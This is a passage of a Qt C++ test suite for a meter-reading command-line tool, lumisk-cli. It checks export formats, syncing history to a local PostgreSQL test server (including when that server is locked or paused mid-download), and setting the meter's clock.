        QTest::newRow("json") << "run.json";
        QTest::newRow("xlsx") << "run.xlsx";
    }
    void storedRunExportsAsTheRun()
    {
        QFETCH(QString, file);
        MeterSim sim;
        QVERIFY(sim.start({QStringLiteral("--kind"), QStringLiteral("6")}));
        QStringList args{"sample", "--interval", "0.5s", "--duration", "1s", "-q"};
        if (!file.isEmpty())
            args << "--out" << path(file);
        const Run run = cli(args, {sim.linkPath()});
        QVERIFY2(run.code == 0, qPrintable(run.err));
        const QJsonArray sessions =
            QJsonDocument::fromJson(cli({"history", "list", "--json"}).out.toUtf8()).array(); // newest first
        QVERIFY(!sessions.isEmpty());
        QCOMPARE(sessions.first().toObject().value("kind").toString(), QStringLiteral("live"));
        const QString id = QString::number(sessions.first().toObject().value("id").toInt());
        const QString stored = path("stored-" + (file.isEmpty() ? QStringLiteral("run.csv") : file));
        const Run exported = cli({"history", "export", id, "--out", stored});
        QVERIFY2(exported.code == 0, qPrintable(exported.err));
        if (file.endsWith(".xlsx")) {
            QCOMPARE(WorkbookDump::read(stored).root, WorkbookDump::read(path(file)).root);
        } else if (file.endsWith(".json")) {
            QCOMPARE(readJson(stored), readJson(path(file)));
        } else {
            QFile csv(stored);
            QVERIFY(csv.open(QIODevice::ReadOnly));
            QCOMPARE(QString::fromUtf8(csv.readAll().mid(3)), run.out);
            QVERIFY2(QRegularExpression(QStringLiteral("\\r\\n\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}[+-]"))
                         .match(run.out)
                         .hasMatch(),
                     qPrintable(run.out));
        }
    }

    // history sync: everything sent to a running server (and sent once), a stopped one reported as unreachable.
    void historySync()
    {
        // A history of its own: the other tests' downloads would be sent too.
        for (const char *suffix : {"", "-wal", "-shm"})
            QFile::remove(path(QStringLiteral("history.sqlite") + QLatin1String(suffix)));
        if (!PgCluster::missing().isEmpty())
            QSKIP(qPrintable(PgCluster::missing()));
        PgCluster pg;
        QVERIFY2(pg.init(), qPrintable(pg.error()));
        QVERIFY2(pg.createDatabase(QStringLiteral("team")), qPrintable(pg.error()));
        QVERIFY(QDir().mkpath(path(QStringLiteral("config/lumisk"))));
        {
            QSettings settings(path(QStringLiteral("config/lumisk/settings.ini")), QSettings::IniFormat);
            settings.setValue(QStringLiteral("history/server"), pg.address(QStringLiteral("team")));
        }
        MeterSim sim;
        QVERIFY(sim.start({QStringLiteral("--kind"), QStringLiteral("6"), QStringLiteral("--records"), QStringLiteral("7")}));
        QCOMPARE(cli({QStringLiteral("download"), QStringLiteral("-f"), QStringLiteral("single"), QStringLiteral("-q")},
                     {sim.linkPath()})
                     .code,
                 0);
        const QString sent = QStringLiteral("SELECT count(DISTINCT record_number) FROM measurements WHERE family = 'single'");
        for (int round = 0; round < 2; ++round) {
            const Run sync = cli({QStringLiteral("history"), QStringLiteral("sync")});
            QVERIFY2(sync.code == 0, qPrintable(sync.err));
            QVERIFY2(sync.err.contains(QLatin1String("Synced")), qPrintable(sync.err));
            QCOMPARE(pg.scalar(QStringLiteral("team"), sent), qint64(7));
        }
        QVERIFY(pg.stop());
        const Run down = cli({QStringLiteral("history"), QStringLiteral("sync")});
        QCOMPARE(down.code, 1);
        QVERIFY2(down.err.contains(QLatin1String("Server unreachable")), qPrintable(down.err));
        QFile::remove(path(QStringLiteral("config/lumisk/settings.ini")));
    }

    // A team server that stops answering in the middle of a download (a
    // table another connection keeps locked, or the server stopped with
    // SIGSTOP once it has the first rows) holds nothing up: the download
    // ends with 0 once its last record is in, and once the server is free,
    // history sync sends everything, once.
    void downloadOutlastsStalledServer_data()
    {
        QTest::addColumn<bool>("locked");
        QTest::newRow("table locked") << true;
        QTest::newRow("server stopped") << false;
    }

    void downloadOutlastsStalledServer()
    {
        QFETCH(bool, locked);
        for (const char *suffix : {"", "-wal", "-shm"})
            QFile::remove(path(QStringLiteral("history.sqlite") + QLatin1String(suffix)));
        if (!PgCluster::missing().isEmpty())
            QSKIP(qPrintable(PgCluster::missing()));
        PgCluster pg;
        QVERIFY2(pg.init(), qPrintable(pg.error()));
        QVERIFY2(pg.createDatabase(QStringLiteral("team")), qPrintable(pg.error()));
        const QString settingsFile = path(QStringLiteral("config/lumisk/settings.ini"));
        QVERIFY(QDir().mkpath(QFileInfo(settingsFile).path()));
        QSettings(settingsFile, QSettings::IniFormat).setValue(QStringLiteral("history/server"), pg.address(QStringLiteral("team")));
        const auto cleanup = qScopeGuard([&]() {
            QFile::remove(settingsFile);
            pg.resume();
            QSqlDatabase::removeDatabase(QStringLiteral("cli-holder"));
        });
        QCOMPARE(cli({QStringLiteral("history"), QStringLiteral("sync"), QStringLiteral("-q")}).code, 0); // the tables

        constexpr int Records = 12;
        MeterSim sim;
        QVERIFY(sim.start({QStringLiteral("--kind"), QStringLiteral("6"), QStringLiteral("--records"),
                           QString::number(Records), QStringLiteral("--trickle"), QStringLiteral("1200@records")}));
        QSqlDatabase holder;
        if (locked) {
            holder = pg.open(QStringLiteral("team"), QStringLiteral("cli-holder"));
            QSqlQuery query(holder);
            QVERIFY(query.exec(QStringLiteral("SET idle_in_transaction_session_timeout = '60s'")));
            QVERIFY(holder.transaction());
            QVERIFY(query.exec(QStringLiteral("LOCK TABLE sessions, records, readings, session_records IN ACCESS EXCLUSIVE MODE")));
        }
        QProcess download;
        startCli(download, {QStringLiteral("download"), QStringLiteral("-f"), QStringLiteral("single"), QStringLiteral("-q")},
                 {sim.linkPath()});
        if (!locked) {
            QTRY_VERIFY_WITH_TIMEOUT(pg.scalar(QStringLiteral("team"), QStringLiteral("SELECT COUNT(*) FROM session_records")) > 0,
                                     30000);
            QVERIFY(pg.pause());
        }
        const bool finished = download.waitForFinished(30000);
        if (locked)
            holder.rollback();
        else
            QVERIFY(pg.resume());
        if (!finished) {
            download.kill();
            download.waitForFinished();
        }
        QVERIFY2(finished, "lumisk-cli download waited for the team server");
        QVERIFY2(download.exitStatus() == QProcess::NormalExit && download.exitCode() == 0,
                 download.readAllStandardError().constData());

        const Run sync = cli({QStringLiteral("history"), QStringLiteral("sync"), QStringLiteral("-q")});
        QVERIFY2(sync.code == 0, qPrintable(sync.err));
        for (const auto &[table, rows] : {std::pair{"sessions", 1}, std::pair{"records", Records}, std::pair{"session_records", Records}})
            QCOMPARE(pg.scalar(QStringLiteral("team"), QStringLiteral("SELECT COUNT(*) FROM %1").arg(QLatin1String(table))),
                     qint64(rows));
    }

    void setClock_data()
    {
        QTest::addColumn<QStringList>("simArgs");
        QTest::addColumn<int>("exitCode");
        QTest::newRow("clock set") << QStringList{} << 0;
        QTest::newRow("no clock") << QStringList{"--no-rtc"} << 4;
    }
    void setClock()
    {
        QFETCH(QStringList, simArgs);
        QFETCH(int, exitCode);
        MeterSim sim;
        QVERIFY(sim.start(QStringList{QStringLiteral("--kind"), QStringLiteral("6")} + simArgs));
        const Run run = cli({QStringLiteral("set-clock"), QStringLiteral("--time"), QStringLiteral("2024-05-01T10:20:30")},
                            {sim.linkPath()});
        QVERIFY2(run.code == exitCode, qPrintable(run.err));
        // Year (2 bytes), month, day, hour, minute, second as the meter takes them.
        QVERIFY(sim.logLines().filter(QStringLiteral("07E805010A141E")).size() == 1);
    }
};

} // namespace

LUMISK_TEST(TestCli)
#include "tst_cli.moc"
